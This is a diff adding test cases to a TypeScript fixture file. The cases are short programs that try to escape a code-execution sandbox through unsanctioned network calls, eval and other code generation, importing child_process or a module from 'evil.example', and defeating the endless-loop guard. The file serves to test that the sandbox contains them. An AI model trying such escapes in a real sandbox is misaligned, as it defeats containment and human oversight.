@@ -488,3 +488,40 @@ export const SECRET_CHANNELS: readonly SecretChannelCase[] = [
     label: "an error escaping the tool runner (the runtime's log line, last_error and error frame)",
   },
 ];
+
+/**
+ * Programs that try to leave a `state.runCode` sandbox (CODE-1): the network without a grant,
+ * code generation, other modules, and the guard that stops endless loops. Each case's program ends
+ * in `return 'escaped'` only if the attempt worked; a contained one throws, is refused before it
+ * runs, or is stopped by the guard.
+ */
+export const SANDBOX_ESCAPES: readonly { label: string; code: string }[] = [
+  { label: 'global fetch to loopback', code: "await fetch('http://127.0.0.1:1/'); return 'escaped';" },
+  { label: 'fetch through globalThis', code: "await globalThis.fetch('https://example.com/'); return 'escaped';" },
+  { label: 'a WebSocket', code: "new WebSocket('ws://127.0.0.1:1/'); return 'escaped';" },
+  { label: 'eval', code: "eval('1'); return 'escaped';" },
+  { label: 'new Function', code: "new Function('return 1')(); return 'escaped';" },
+  {
+    label: 'the async function constructor',
+    code: "await (async function () {}).constructor('return 1')(); return 'escaped';",
+  },
+  { label: 'a timer given a string', code: "setTimeout('globalThis.x = 1', 0); return 'escaped';" },
+  {
+    label: 'WebAssembly compiled from bytes',
+    code: "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'escaped';",
+  },
+  { label: 'a node: module', code: "await import('node:child_process'); return 'escaped';" },
+  { label: 'a module from a URL', code: "await import('https://evil.example/x.js'); return 'escaped';" },
+  { label: 'a module outside the program', code: "await import('../main.js'); return 'escaped';" },
+  { label: 'sockets', code: "await import('cloudflare:sockets'); return 'escaped';" },
+  {
+    label: 'replacing the loop guard, then looping',
+    code: "for (const name of Object.getOwnPropertyNames(globalThis)) { try { globalThis[name] = () => {}; } catch {} }\nwhile (true) {}\nreturn 'escaped';",
+  },
+  { label: 'a frozen clock, then looping', code: "Date.now = () => 0;\nwhile (true) {}\nreturn 'escaped';" },
+  {
+    label: 'catching the guard inside the loop',
+    code: "let n = 0;\nwhile (true) { try { n++; } catch {} }\nreturn 'escaped';",
+  },
+  { label: 'endless recursion', code: "const f = () => f();\nf();\nreturn 'escaped';" },
+];
